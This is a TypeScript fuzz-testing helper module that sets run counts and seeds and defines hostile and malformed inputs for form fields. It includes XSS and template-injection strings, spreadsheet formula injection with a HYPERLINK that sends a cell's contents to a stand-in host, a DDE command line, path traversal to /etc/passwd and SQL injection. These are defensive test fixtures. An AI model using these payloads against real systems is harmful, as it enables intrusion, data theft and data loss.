// What a hostile or an unlucky person may type or send, by name, and as random texts; how many inputs a run tries, and from which seed.

import fc from 'fast-check';

/**
 * How many times more inputs than in the suite, and the seed of the random ones. `npm run fuzz -- --runs N --seed S` sets both, so that the
 * suite and the long command run the same code.
 */
export const effort = {
  times: Number(process.env.HOSTILE_TIMES ?? '1'),
  seed: Number(process.env.HOSTILE_SEED ?? '20260115'),
};

/** The longest a test of hostile input may take, in milliseconds, when it takes so long in the suite at most; a long run may stand behind others. */
export function within(usual: number): number {
  return effort.times > 1 ? Math.ceil(6 * usual * effort.times) : usual;
}

/** Seeds of random problems, one after another: `usual` of them in the suite. */
export function seedsFrom(first: number, usual: number): number[] {
  return Array.from({ length: Math.ceil(usual * effort.times) }, (_, place) => first + place);
}

/** The settings of a property that tries `usual` inputs in the suite. */
export function tries(usual: number): { seed: number; numRuns: number } {
  return { seed: effort.seed, numRuns: Math.ceil(usual * effort.times) };
}

/** Awkward texts that a person or a program may put into a field of text. Each is a whole that could be kept. */
export const awkwardTexts = {
  markup: '"><img src=x onerror=alert(1)><script>alert(1)</script><!--',
  'an attribute': `' onmouseover='alert(1)' x="y" style=position:fixed`,
  'a link of code': 'javascript:alert(document.cookie)',
  'an entity': '&lt;b&gt; &amp;amp; &#x3c;script&#62; &nbsp;',
  'an end of text': '</textarea></title></svg></style><base href=//x.example>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that looks like a template is the point
  template: '{{constructor.constructor "return process"}} {{{this}}} {{> field}} ${7*7} <%= 7*7 %>',
  'a formula': '=HYPERLINK("http://x.example?"&A1,"look")',
  'a formula after blanks': "  \t+1+cmd|'/C calc'!A0",
  'a full-width formula': '\uFF1DSUM(A1:A9)',
  'a formula after an at sign': '@SUM(1+9)*cmd|A0',
  'right-to-left': '\u202Egnp.eciov\u202C \u05D1\u05D0\u05E1\u05DC \u0627\u0644\u0636\u0628',
  emoji: '\u{1F98E}\u{1F469}\u{1F3FD}\u200D\u{1F52C}\u{1F1EB}\u{1F1EE} \u2764\uFE0F',
  'many marks': `Z${'\u0351\u036B\u0343\u036A\u0302'.repeat(6)}`,
  'no width': '\u200B\u2060\uFEFF\u00AD',
  'lines of a calendar': 'x\nEND:VEVENT\nBEGIN:VALARM;,\\n\\N:\u2028\u2029\u0085',
  'a name of objects': '__proto__',
  'a path': '../../etc/passwd%00\\..\\',
  sql: `Robert'); DROP TABLE animals;-- " OR 1=1`,
  quotes: `"'\`\u201C\u201D\u2018\u2019,;\t|`,
  'a long word': 'w'.repeat(118),
  numbers: 'NaN Infinity -0 1e999 0x1F',
} as const;

/** What awkward texts become where text is shown as it is: the same length of harmless letters. */
export function harmless(text: string): string {
  return text.replace(/[^\s]/gu, 'a');
}

/** Texts that stand for numbers, amounts, measures and days, right and wrong, at and past every edge. */
const oddNumbers: readonly string[] = [
  '',
  ' ',
  '0',
  '-0',
  '00',
  '1',
  '-1',
  '+1',
  '.5',
  '5.',
  '1,5',
  '1.5',
  '1,234',
  '1.234,5',
  '1 234,50',
  '1e3',
  '1e999',
  '-1e-999',
  '0x10',
  '0b1',
  'NaN',
  'Infinity',
  '-Infinity',
  '9007199254740991',
  '9007199254740993',
  '99999999999999999999999999',
  `${'9'.repeat(400)}`,
  '0.0000001',
  '0.3000000000000000444',
  '\uFF11\uFF12',
  '\u0661\u0662',
  '\u00BD',
  '\u2212' + '5',
  '5%',
  '100 %',
  '101 %',
  '20 C',
  '\u2103',
  '70 \u00B0F',
  '12 in',
  `5' 8"`,
  `5'11\u2033`,
  '3 cm 4',
  '--5',
  '5-',
  '1..5',
  '1,,5',
  "1'000",
  'true',
  'null',
  'undefined',
  '[object Object]',
  '0001-01-01',
  '9999-12-31',
  '0000-00-00',
  '2026-02-29',
  '2024-02-29',
  '2026-02-31',
  '2026-13',
  '0001-01',
  '9999-12',
  '2026-01-15T00:00:00Z',
  '15.01.2026',
  '+012026-01-01',
];

/** Any text that a form can carry: awkward ones, numbers, long ones, and random ones of every character. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...Object.values(awkwardTexts)) },
  { weight: 4, arbitrary: fc.constantFrom(...oddNumbers) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
  { weight: 1, arbitrary: fc.constantFrom('\u0000', 'a\u0000b', '\r\n', '\u001B[31m', '\u0007', '\uFFFD', '\uD800x') },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(3_000), '9'.repeat(3_000), '\u{1F98E}'.repeat(1_500)) },
);

/** A text made of the characters that a parser looks at, so that it nearly means something. */
export function nearly(characters: string, maxLength = 24): fc.Arbitrary<string> {
  return fc.string({ unit: fc.constantFrom(...characters), maxLength });
}

/**
 * How many times longer a function takes on a text of twice the length, from the fastest of a few runs: about 2 where its time grows with
 * the length, 4 where it grows with its square, and far more where it tries every way to match.
 */
export function growth(run: (text: string) => unknown, make: (length: number) => string, length: number): number {
  const fastest = (size: number): number => {
    const text = make(size);
    let best = Number.POSITIVE_INFINITY;
    // One turn is enough of what takes that long.
    for (let turn = 0; turn < 5 && (turn === 0 || best < 200); turn += 1) {
      const start = performance.now();
      run(text);
      best = Math.min(best, performance.now() - start);
    }
    return best;
  };
  // What takes no time at all has no growth to be measured.
  const [once, twice] = [fastest(length), fastest(length * 2)];
  return twice < 2 ? 0 : twice / Math.max(once, 0.05);
}
